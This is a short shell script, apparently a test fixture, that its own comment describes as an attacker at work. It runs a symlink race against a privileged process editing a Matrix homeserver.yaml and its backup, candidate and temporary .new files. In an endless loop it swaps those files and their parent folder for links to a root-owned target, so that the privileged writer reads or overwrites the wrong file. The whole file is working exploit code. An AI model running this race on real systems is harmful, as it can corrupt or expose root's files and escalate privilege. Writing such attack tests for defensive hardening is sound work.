#!/bin/sh
# An attacker at work: puts links to root's files in the place of ours, and takes them away again, until it is ended.
# $1 the folder that is his, $2 the file to get at, $3 the folder that it is in.
cd "$1" || exit 1
echo ready
while :; do
  for name in below/homeserver.yaml below/homeserver.yaml.matrix-auth-before below/homeserver.yaml.candidate; do
    ln -s "$2" below/planted 2>/dev/null
    mv -T "$name" below/aside 2>/dev/null
    mv -T below/planted "$name" 2>/dev/null
    mv -T below/aside "$name" 2>/dev/null
    rm -f below/planted
  done
  for new in below/.homeserver.yaml.*.new; do
    [ -e "$new" ] && ln -sfT "$2" "$new"
  done
  mv -T below aside && ln -s "$3" below
  rm -f below
  mv -T aside below
done
